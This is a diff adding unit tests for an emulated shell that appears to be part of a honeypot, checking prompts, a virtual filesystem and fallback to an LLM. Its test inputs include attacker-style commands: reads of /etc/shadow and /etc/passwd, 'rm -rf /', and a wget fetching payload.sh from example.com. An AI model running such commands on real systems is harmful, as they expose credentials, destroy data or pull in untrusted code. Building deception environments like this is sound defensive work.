@@ -0,0 +1,73 @@
+import unittest
+
+from emulated_shell.builtin_commands import BuiltinCommands
+
+
+class TestBuiltinCommands(unittest.TestCase):
+
+    def setUp(self):
+        self.builtins = BuiltinCommands("root", "10.0.0.1", "ubuntu")
+
+    def test_identity_commands(self):
+        self.assertEqual(self.builtins.run("whoami"), "root\r\nroot@10.0.0.1:~$ ")
+        self.assertEqual(self.builtins.run("pwd"), "/root\r\nroot@10.0.0.1:~$ ")
+        self.assertTrue(self.builtins.run("uname -a").startswith("Linux ubuntu 6.8.0-1027-generic"))
+
+    def test_unknown_commands_fall_back(self):
+        self.assertIsNone(self.builtins.run("ps aux"))
+        self.assertIsNone(self.builtins.run("cat /proc/cpuinfo | grep name | wc -l"))
+        self.assertIsNone(self.builtins.run("ls /etc"))
+        self.assertIsNone(self.builtins.run("cat /etc/shadow"))
+
+    def test_handles(self):
+        self.assertTrue(self.builtins.handles("cat /etc/shadow"))
+        self.assertTrue(self.builtins.handles("FOO=bar"))
+        self.assertFalse(self.builtins.handles("ps aux"))
+        self.assertFalse(self.builtins.handles("cd /tmp && ls"))
+        self.assertEqual(self.builtins.cwd, "/root")
+
+    def test_cd_and_files(self):
+        self.assertEqual(self.builtins.run("cd /tmp"), "root@10.0.0.1:/tmp$ ")
+        self.builtins.run("echo hello $USER > note.txt")
+        self.builtins.run("echo again >> note.txt")
+
+        self.assertEqual(self.builtins.run("cat note.txt"), "hello root\r\nagain\r\nroot@10.0.0.1:/tmp$ ")
+        self.assertEqual(self.builtins.run("ls"), "note.txt\r\nroot@10.0.0.1:/tmp$ ")
+        self.assertIn("No such file or directory", self.builtins.run("cd /nonexistent"))
+
+    def test_variables(self):
+        self.builtins.run("export GREETING=hi")
+        self.assertEqual(self.builtins.run("echo ${GREETING} $HOME"), "hi /root\r\nroot@10.0.0.1:~$ ")
+        self.assertTrue(self.builtins.handles("echo ${HOME}"))
+        self.assertIsNone(self.builtins.run("echo {a,b}"))
+
+    def test_rm_preserves_root(self):
+        response = self.builtins.run("rm -rf /")
+
+        self.assertIn("rm: it is dangerous to operate recursively on '/'", response)
+        self.assertIn("rm: use --no-preserve-root to override this failsafe", response)
+        self.assertTrue(self.builtins.vfs.is_dir("/tmp"))
+        self.assertEqual(self.builtins.run("pwd"), "/root\r\nroot@10.0.0.1:~$ ")
+
+    def test_redirects_outside_echo_fall_back(self):
+        self.assertIsNotNone(self.builtins.run("cat /etc/passwd"))
+        self.assertFalse(self.builtins.handles("cat /etc/passwd > /tmp/x"))
+        self.assertIsNone(self.builtins.run("cat /etc/passwd > /tmp/x"))
+        self.assertIsNone(self.builtins.run("cat /etc/passwd 2>/dev/null"))
+
+        self.assertFalse(self.builtins.handles("touch a > b"))
+        self.assertIsNone(self.builtins.run("touch a > b"))
+        self.assertNotIn("/root/b", self.builtins.vfs.files)
+        self.assertNotIn("/root/>", self.builtins.vfs.files)
+
+    def test_observe_llm_response(self):
+        self.builtins.observe("cd /opt/app", "root@10.0.0.1:/opt/app$ ")
+        self.builtins.observe("wget http://example.com/payload.sh", "saved\r\nroot@10.0.0.1:/opt/app$ ")
+
+        self.assertEqual(self.builtins.run("pwd"), "/opt/app\r\nroot@10.0.0.1:/opt/app$ ")
+        self.assertIn("/opt/app/payload.sh", self.builtins.vfs.files)
+        self.assertIsNone(self.builtins.run("cat payload.sh"))
+
+
+if __name__ == '__main__':
+    unittest.main()